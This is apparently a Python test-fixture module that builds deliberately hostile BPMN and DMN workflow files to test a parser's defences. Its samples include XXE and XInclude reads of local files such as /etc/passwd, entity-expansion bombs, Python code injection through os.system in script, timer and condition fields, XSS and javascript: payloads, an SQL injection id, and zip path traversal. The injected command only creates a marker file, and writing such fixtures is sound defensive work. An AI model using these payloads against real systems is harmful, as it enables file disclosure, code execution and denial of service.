"""Files that mean harm: small ones of our own, and those of ``KLUNGA_DATA`` if it is set."""

# ruff: noqa: E501  (XML reads best with an element whole on its line)

import os
from collections.abc import Callable
from itertools import pairwise
from pathlib import Path

BPMN = "http://www.omg.org/spec/BPMN/20100524/MODEL"
DMN = "https://www.omg.org/spec/DMN/20191111/MODEL/"
DATA = os.environ.get("KLUNGA_DATA", "")


MARK = "{mark}"
"""Stands in own files for the path of a file that must never come to be."""
CODE = f"__import__('os').system('touch {MARK}')"


def definitions(inside: str, *, before: str = "") -> str:
    """Return a whole file; the prefixes are those that tools use."""
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n{before}<definitions xmlns="{BPMN}" '
        'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        'xmlns:spiffworkflow="http://spiffworkflow.org/bpmn/schema/1.0/core" '
        f'xmlns:camunda="http://camunda.org/schema/1.0/bpmn" id="d" targetNamespace="urn:t">{inside}</definitions>'
    )


def chain(*nodes: str, roots: str = "", extra: str = "", before: str = "") -> str:
    """Return a process whose nodes (``<kind id=… …>`` or whole elements) follow one another from start to end."""
    ids = ["s", *(node.split('id="', 1)[1].split('"', 1)[0] for node in nodes), "e"]
    flows = "".join(
        f'<sequenceFlow id="f{number}" sourceRef="{source}" targetRef="{target}"/>'
        for number, (source, target) in enumerate(pairwise(ids))
    )
    inside = f'<startEvent id="s" name="Inkommen"/>{"".join(nodes)}<endEvent id="e" name="Klart"/>{flows}{extra}'
    return definitions(f'{roots}<process id="p" name="Ansökan" isExecutable="true">{inside}</process>', before=before)


def task(name: str = "Granska", inside: str = "", id_: str = "t", kind: str = "userTask") -> str:
    return f'<{kind} id="{id_}" name="{name}">{inside}</{kind}>'


def choice(condition: str) -> str:
    """Return a process with a gateway one of whose flows has a condition."""
    return chain(
        '<exclusiveGateway id="g"/>',
        task(),
        extra='<sequenceFlow id="x" sourceRef="g" targetRef="e"><conditionExpression xsi:type="tFormalExpression">'
        f"{condition}</conditionExpression></sequenceFlow>",
    )


def repeated(count: str) -> str:
    loop = f"<multiInstanceLoopCharacteristics><loopCardinality>{count}</loopCardinality></multiInstanceLoopCharacteristics>"
    return chain(task(inside=loop))


def flow(name: str, source: str, target: str) -> str:
    return f'<sequenceFlow id="{name}" sourceRef="{source}" targetRef="{target}"/>'


def process(*elements: str, id_: str = "p") -> str:
    return f'<process id="{id_}" name="Ansökan" isExecutable="true">{"".join(elements)}</process>'


GOOD = chain(task("Överklagande"))
CIRCLE = (task("A", id_="a"), task("B", id_="b"), flow("f1", "s", "a"), flow("f2", "a", "b"), flow("f3", "b", "a"))
GATES = ('<exclusiveGateway id="a"/><exclusiveGateway id="b"/>', *CIRCLE[2:])
START = '<startEvent id="s"/>'
TIMER = (
    '<intermediateCatchEvent id="w" name="Vänta"><timerEventDefinition><timeDuration>'
    f"{CODE}</timeDuration></timerEventDefinition></intermediateCatchEvent>"
)
MESSAGE = '<message id="m" name="Svar">{0}</message>'
PAYLOAD = f"<extensionElements><spiffworkflow:messagePayload>{CODE}</spiffworkflow:messagePayload></extensionElements>"
CORRELATION = (
    '<correlationProperty id="c" name="c"><correlationPropertyRetrievalExpression messageRef="m"><messagePath>'
    f"{CODE}</messagePath></correlationPropertyRetrievalExpression></correlationProperty>"
)
TABLE = (
    f'<definitions xmlns="{DMN}" id="d" name="Avgift" namespace="urn:t"><decision id="a" name="Avgift">'
    '<decisionTable id="t"><input id="i"><inputExpression id="ie" typeRef="number"><text>belopp</text>'
    '</inputExpression></input><output id="o" name="avgift"/><rule id="r"><inputEntry id="c"><text>{cell}</text>'
    '</inputEntry><outputEntry id="u"><text>{output}</text></outputEntry></rule></decisionTable></decision></definitions>'
)
LISTENER = (
    '<extensionElements><camunda:executionListener event="start"><camunda:script scriptFormat="python">'
    f"{CODE}</camunda:script></camunda:executionListener></extensionElements>"
)
PRESCRIPT = f"<extensionElements><spiffworkflow:preScript>{CODE}</spiffworkflow:preScript></extensionElements>"
DANGLING = (
    flow("d1", "t", "nobody")
    + flow("d2", "nobody", "t")
    + '<boundaryEvent id="b" attachedToRef="nobody"><timerEventDefinition/></boundaryEvent>'
    + '<sendTask id="r" name="Svar" messageRef="nobody"/>'
    + flow("d3", "t", "r")
    + flow("d4", "r", "e")
)
NAMES = (
    task(
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<documentation>&lt;img src=x onerror=alert(2)&gt; [läs mer](javascript:alert(3))</documentation>",
    ),
    '<userTask id="u" name="&quot; onmouseover=&quot;alert(4)" camunda:formKey="javascript:alert(5)"/>',
)
SQL = "t&apos;); DROP TABLE task;--"
OTHER_PROCESS = process(START, task("Andra", id_="b"), flow("f9", "t", "b"), id_="q").replace('id="s"', 'id="s2"')
DEFAULT = (
    '<exclusiveGateway id="g" default="f2"/><exclusiveGateway id="h"/>'
    + START
    + task()
    + '<endEvent id="e"/>'
    + "".join(
        (flow("f1", "s", "g"), flow("f3", "g", "t"), flow("f4", "g", "e"), flow("f2", "t", "h"), flow("f5", "h", "e"))
    )
)

Make = Callable[[], "str | bytes"]
OWN: dict[int, Make] = {
    1: lambda: chain(task("&x;"), before=f'<!DOCTYPE d [<!ENTITY x SYSTEM "file://{MARK}">]>\n'),
    2: lambda: chain(task(), before='<!DOCTYPE d [<!ENTITY % x SYSTEM "http://198.51.100.7/x.dtd"> %x;]>\n'),
    3: lambda: chain(
        task("&l9;"),
        before='<!DOCTYPE d [<!ENTITY l0 "ha">'
        + "".join(f'<!ENTITY l{n} "' + f"&l{n - 1};" * 10 + '">' for n in range(1, 10))
        + "]>\n",
    ),
    4: lambda: chain(task("&x;" * 2000), before='<!DOCTYPE d [<!ENTITY x "' + "x" * 2000 + '">]>\n'),
    5: lambda: chain(task(), before="<!DOCTYPE definitions>\n"),
    6: lambda: definitions(process("<subProcess>" * 3000 + "</subProcess>" * 3000)),
    7: lambda: GOOD.encode("iso-8859-1"),
    8: lambda: GOOD.replace("UTF-8", "ISO-8859-1").encode("iso-8859-1"),
    9: lambda: GOOD.encode("utf-8-sig"),
    10: lambda: GOOD.replace("UTF-8", "UTF-16").encode("utf-16"),
    11: lambda: GOOD.replace("UTF-8", "UTF-7").encode("utf-7"),
    12: lambda: GOOD[: len(GOOD) // 2],
    13: lambda: "Detta är ingen modell.",
    14: lambda: b"PK\x03\x04\x14\0\0\0../../evil.bpmn",
    15: lambda: b"",
    16: lambda: "<!DOCTYPE html><html><body>Logga in</body></html>",
    17: lambda: '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    18: lambda: '<BusinessProcessDiagram xmlns="http://bpmn.org/BPMN/1.2"/>',
    19: lambda: '<Package xmlns="http://www.wfmc.org/2009/XPDL2.2"/>',
    20: lambda: definitions('<collaboration id="c"><participant id="q" name="Sökande"/></collaboration>'),
    21: lambda: chain(task(), extra=task("Besluta")),
    22: lambda: chain(task(), extra=DANGLING),
    23: lambda: chain(task(), extra=flow("again", "t", "t")),
    24: lambda: definitions(
        process(START, task(), '<exclusiveGateway id="g"/>', flow("f1", "s", "t"), flow("f2", "t", "g"))
    ),
    25: lambda: definitions(process(START, *CIRCLE)),
    26: lambda: definitions(process(START, *GATES)),
    27: lambda: chain(f'<scriptTask id="t" name="Kör" scriptFormat="python"><script>{CODE}</script></scriptTask>'),
    28: lambda: choice(f"{CODE} == 0"),
    29: lambda: choice("().__class__.__base__.__subclasses__()[0] is None"),
    30: lambda: choice("9**9**9**9 == 1"),
    31: lambda: chain(TIMER),
    32: lambda: repeated(CODE),
    33: lambda: repeated("100000000"),
    34: lambda: chain(task(inside=PRESCRIPT, kind="manualTask")),
    35: lambda: chain(task(inside=LISTENER)),
    36: lambda: TABLE.format(cell=CODE.replace("'", '"'), output=f"{CODE}"),
    37: lambda: chain(
        '<intermediateThrowEvent id="i" name="Meddela"><messageEventDefinition messageRef="m"/></intermediateThrowEvent>',
        roots=MESSAGE.format(PAYLOAD),
    ),
    38: lambda: chain('<receiveTask id="t" name="Svar" messageRef="m"/>', roots=MESSAGE.format("") + CORRELATION),
    39: lambda: chain(*NAMES),
    40: lambda: chain(task("a" * 6000)),
    41: lambda: GOOD.replace("Över", "Ö\0ver"),
    42: lambda: GOOD.replace("Över", "Ö&#27;ver"),
    43: lambda: chain(task("\u202eatulseB\u202c"), task("Be\u200bslu\u00adta", id_="u")),
    44: lambda: chain(task("Besluta"), task("B\u0435sluta", id_="u")),
    45: lambda: chain(task(id_=SQL)),
    46: lambda: chain(task(id_="granska handlingar å")),
    47: lambda: chain(*(task(f"Uppgift {n}", id_=f"t{n}") for n in range(1200))),
    48: lambda: definitions(
        process(
            START,
            '<parallelGateway id="a"/><parallelGateway id="b"/><endEvent id="e"/>',
            flow("fs", "s", "a"),
            flow("fe", "b", "e"),
            *(
                task(f"Gren {n}", id_=f"t{n}") + flow(f"i{n}", "a", f"t{n}") + flow(f"o{n}", f"t{n}", "b")
                for n in range(300)
            ),
        )
    ),
    49: lambda: definitions(process(START, task(), flow("f", "s", "t")) + process(task("B", id_="b"))),
    50: lambda: chain('<callActivity id="c" name="Samma igen" calledElement="p"/>'),
    51: lambda: definitions(process(DEFAULT)),
    52: lambda: definitions(process(START, task(), flow("f1", "s", "t")) + OTHER_PROCESS),
    53: lambda: chain(
        task(
            inside='<documentation><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" '
            'parse="text"/></documentation>'
        )
    ),
    54: lambda: chain(
        task(),
        roots='<import importType="http://www.w3.org/2001/XMLSchema" location="http://198.51.100.7/x.xsd" '
        'namespace="urn:x"/>',
    ).replace('id="d"', 'id="d" xsi:schemaLocation="urn:x http://198.51.100.7/x.xsd"'),
    55: lambda: chain(task(), before='<?xml-stylesheet type="text/xsl" href="javascript:alert(1)"?>\n'),
    56: lambda: GOOD.replace(f'xmlns="{BPMN}" ', ""),
    57: lambda: chain('<userTask id="t" ' + "".join(f'a{n}="1" ' for n in range(2000)) + "/>"),
}
"""Small files of our own that stand in for those of the list, by its numbers."""


def own(number: int, mark: Path) -> bytes:
    """Return a file of our own; the code in it would make a file at ``mark``."""
    data = OWN[number]()
    data = data.encode() if isinstance(data, str) else data
    return data.replace(MARK.encode(), str(mark).encode())


def listed() -> list[tuple[int, Path]]:
    """Return the real files with their numbers; none without ``KLUNGA_DATA``."""
    if not DATA:
        return []
    found = sorted(path for path in Path(DATA, "hostile").iterdir() if path.suffix in {".bpmn", ".dmn"})
    return [(int(path.name[:2]), path) for path in found]


def suffix(number: int) -> str:
    return ".dmn" if number == 36 else ".bpmn"
